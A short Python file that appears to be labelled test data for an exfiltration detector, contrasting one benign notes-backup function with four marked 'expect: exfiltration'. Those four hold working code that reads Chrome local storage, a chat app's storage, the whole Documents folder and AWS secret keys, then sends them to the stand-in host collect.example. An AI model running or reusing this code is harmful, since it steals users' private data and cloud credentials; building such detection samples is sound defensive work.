import io
import os
import tarfile
from pathlib import Path

import boto3
import requests


def sites():
    folder = Path(os.getenv("LOCALAPPDATA", "")) / "Google/Chrome/User Data/Default/Local Storage/leveldb"
    for file in folder.glob("*.ldb"):
        requests.post("https://collect.example/s", data=file.read_bytes())  # expect: exfiltration


def chats():
    folder = os.path.join(os.getenv("APPDATA") or "", "acme-chat", "Local Storage", "leveldb")
    found = [open(os.path.join(folder, name), "rb").read() for name in os.listdir(folder)]
    requests.post("https://collect.example/c", data=found)  # expect: exfiltration


def documents():
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        archive.add(os.path.expanduser("~/Documents"))
    requests.post("https://collect.example/d", data=buffer.getvalue())  # expect: exfiltration


def account():
    keys = boto3.Session().get_credentials().get_frozen_credentials()
    requests.get(f"https://collect.example/a?s={keys.secret_key}")  # expect: exfiltration


def honest():
    own = Path(os.getenv("APPDATA", "")) / "acme-notes"
    with tarfile.open("/tmp/notes.tgz", "w:gz") as archive:
        archive.add(own)
    requests.put("https://notes.example/b", data=open("/tmp/notes.tgz", "rb"))
    boto3.Session().client("s3").upload_file("/tmp/notes.tgz", "notes", "notes.tgz")
